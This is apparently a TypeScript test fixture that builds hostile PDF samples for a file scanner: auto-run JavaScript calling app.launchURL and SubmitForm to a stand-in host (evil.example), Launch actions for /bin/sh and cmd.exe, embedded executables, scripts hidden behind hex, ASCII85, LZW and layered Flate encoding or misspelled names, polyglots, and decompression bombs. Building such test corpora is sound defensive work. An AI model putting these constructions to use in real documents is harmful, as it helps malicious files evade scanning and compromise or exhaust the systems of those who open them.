import { deflateSync } from 'node:zlib';
import { zip } from '#api/testing/samples/archives.ts';
import { objectStream, pdf, stream } from '#api/testing/samples/pdfs.ts';
import { photo } from '#api/testing/samples/pictures.ts';
import { hiddenMarker } from '#tools/services/clamav.ts';
import { CANARY, type Hostile, hostile } from './hostile.ts';

const js = '<< /S /JavaScript /JS (app.launchURL\\("//evil.example"\\)) >>';
const hidden = (bytes: Buffer) => deflateSync(bytes);
const ascii85 = (text: string): string => {
  const bytes = Buffer.concat([Buffer.from(text), Buffer.alloc((4 - (text.length % 4)) % 4)]);
  let out = '';
  for (let at = 0; at < bytes.length; at += 4) {
    let value = bytes.readUInt32BE(at);
    let group = '';
    for (let i = 0; i < 5; i++, value = Math.floor(value / 85)) group = String.fromCharCode((value % 85) + 33) + group;
    out += group;
  }
  return `${out}~>`;
};

/** PDFs that run, reach out, carry, lock, lie or swell. */
export async function hostilePdfs({ full }: { full: boolean }): Promise<Hostile[]> {
  return [...activePdfs(), ...packedPdfs(), ...(await brokenPdfs()), ...(full ? swellingPdfs() : [])];
}

function activePdfs(): Hostile[] {
  const plain = pdf({ text: CANARY, pages: 2 });
  const names: [string, string][] = [
    ['script on opening', `/OpenAction ${js}`],
    ['script on opening, by reference', '/OpenAction 100 0 R'],
    ['script, spelled otherwise', '/OpenAction << /S /Jav#61Script /JS (1) >>'],
    [
      'script, every letter as a number',
      `/OpenAction << /S /${[...'JavaScript'].map((c) => `#${c.charCodeAt(0).toString(16)}`).join('')} /JS (1) >>`,
    ],
    ['script in the name tree', `/Names << /JavaScript << /Names [(a) ${js}] >> >>`],
    ['actions of the document', '/AA << /WC << /S /JavaScript /JS (1) >> >>'],
    ['launch', '/OpenAction << /S /Launch /F (/bin/sh) >>'],
    ['launch on Windows', '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'],
    ['embedded files', '/Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>'],
    ['portfolio', '/Collection << /View /T >>'],
    ['XFA', '/AcroForm << /XFA [(template) 100 0 R] >>'],
    ['import of data', '/OpenAction << /S /ImportData /F (x.fdf) >>'],
    ['submitting', '/OpenAction << /S /SubmitForm /F (https://evil.example) >>'],
    ['rendition', '/OpenAction << /S /Rendition /R 100 0 R >>'],
    ['another document inside', '/OpenAction << /S /GoToE /T << /R /C >> >>'],
  ];
  return [
    hostile('PDF, nothing wrong', 'pdf', plain, 'good'),
    hostile('PDF that opens at page 1', 'pdf', pdf({ text: CANARY, catalog: '/OpenAction [10 0 R /Fit]' }), 'good'),
    hostile('PDF with packed content', 'pdf', pdf({ objects: [stream(hidden(Buffer.from('q Q')), '/Filter /FlateDecode')] }), 'good'),
    ...names.map(([what, catalog]) => hostile(what, 'pdf', pdf({ text: CANARY, catalog, objects: [js] }))),
    ...[
      '/Subtype /RichMedia',
      '/Subtype /FileAttachment /FS << /EF << /F 100 0 R >> >>',
      `/Subtype /Link /A ${js}`,
      '/Subtype /Link /AA << /E 100 0 R >>',
    ].map((annotation) =>
      hostile(`annotation ${annotation}`, 'pdf', pdf({ page: `/Annots [<< ${annotation} /Rect [0 0 9 9] >>]`, objects: [stream('MZ')] })),
    ),
  ];
}

/** Scripts where a search of the open text does not see them. */
function packedPdfs(): Hostile[] {
  return [
    hostile('script in an object stream', 'pdf', pdf({ objects: [objectStream(js)] })),
    hostile('script in an object stream, as picture', 'pdf', pdf({ objects: [objectStream(js, '/Subtype /Image')] })),
    hostile('script behind a predictor', 'pdf', pdf({ objects: [objectStream(js, '/DecodeParms << /Predictor 12 /Columns 4 >>')] })),
    hostile(
      'script in hex',
      'pdf',
      pdf({ objects: [stream(`${Buffer.from(`200 0 ${js}`).toString('hex')}>`, '/Type /ObjStm /N 1 /First 6 /Filter /ASCIIHexDecode')] }),
    ),
    hostile(
      'script in base 85',
      'pdf',
      pdf({ objects: [stream(ascii85(`200 0 ${js}`), '/Type /ObjStm /N 1 /First 6 /Filter /ASCII85Decode')] }),
    ),
    hostile('script in LZW', 'pdf', pdf({ objects: [stream('\x80\x0b\x60', '/Type /ObjStm /N 1 /First 6 /Filter /LZWDecode')] })),
    hostile(
      'script packed three times',
      'pdf',
      pdf({
        objects: [
          stream(hidden(hidden(hidden(Buffer.from(`200 0 ${js}`)))), '/N 1 /First 6 /Filter [/FlateDecode /FlateDecode /FlateDecode]'),
        ],
      }),
    ),
  ];
}

/** Locked, too long, cut off, or two things at once. */
async function brokenPdfs(): Promise<Hostile[]> {
  const plain = pdf({ text: CANARY, pages: 2 });
  return [
    hostile(
      'locked',
      'pdf',
      pdf({ trailer: '/Encrypt 100 0 R', objects: ['<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O (x) /U (y) >>'] }),
    ),
    hostile('locked, spelled otherwise', 'pdf', pdf({ trailer: '/Encr#79pt 100 0 R', objects: ['<< /Filter /Standard /V 4 /R 4 >>'] })),
    hostile('10,000 pages', 'pdf', pdf({ pages: 10_000 })),
    hostile('11 pages', 'pdf', pdf({ pages: 11 })),
    hostile('no pages', 'pdf', pdf({ pages: 0 })),
    hostile('pages in a circle', 'pdf', Buffer.from(plain.toString('latin1').replace('/Kids [10 0 R', '/Kids [2 0 R '), 'latin1')),
    hostile('ZIP behind it', 'pdf', Buffer.concat([plain, zip([{ name: 'a.exe', data: 'MZ' }])])),
    hostile('ZIP in a stream', 'pdf', pdf({ objects: [stream(zip([{ name: 'a.exe', data: 'MZ' }]))] })),
    hostile('page behind it', 'pdf', Buffer.concat([plain, Buffer.from('<html><script>1</script>')])),
    hostile('photo behind it', 'pdf', Buffer.concat([plain, await photo()])),
    hostile('behind a photo', 'pdf', Buffer.concat([await photo(), plain])),
    hostile('behind a page', 'pdf', Buffer.concat([Buffer.from('<html>'), plain])),
    hostile('only a head', 'pdf', Buffer.from('%PDF-1.7\n')),
    hostile('head and end', 'pdf', Buffer.from('%PDF-1.7\n%%EOF\n')),
    hostile('half', 'pdf', plain.subarray(0, plain.length / 2)),
    hostile('without an end', 'pdf', plain.subarray(0, plain.lastIndexOf('%%EOF'))),
    hostile('PostScript', 'pdf', Buffer.from('%!PS-Adobe-3.0\n(/bin/sh) run\n')),
    hostile('marker inside', 'pdf', pdf({ objects: [stream(hiddenMarker())] })),
  ];
}

/** Small files that unpack to enormous ones. */
const swellingPdfs = (): Hostile[] => [
  hostile('bomb in a stream', 'pdf', pdf({ objects: [stream(hidden(Buffer.alloc(80_000_000)), '/Filter /FlateDecode')] })),
  hostile(
    'bomb in a bomb',
    'pdf',
    pdf({ objects: [stream(hidden(hidden(Buffer.alloc(200_000_000))), '/Filter [/FlateDecode /FlateDecode]')] }),
  ),
  hostile(
    'five bombs',
    'pdf',
    pdf({ objects: Array.from({ length: 5 }, () => stream(hidden(Buffer.alloc(49_000_000)), '/Filter /FlateDecode')) }),
  ),
];
